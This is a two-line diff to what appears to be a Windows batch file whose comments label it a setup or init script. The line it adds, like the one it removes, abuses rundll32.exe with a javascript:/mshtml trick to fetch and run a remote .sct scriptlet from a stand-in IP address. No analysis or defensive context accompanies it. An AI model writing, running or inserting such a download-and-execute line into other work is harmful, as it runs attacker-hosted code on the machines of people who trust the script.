@@ -1,2 +1,2 @@
-REM setup 5243 v0
-rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.9/r.sct")
+REM init 1772 v0
+rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.17/r.sct")
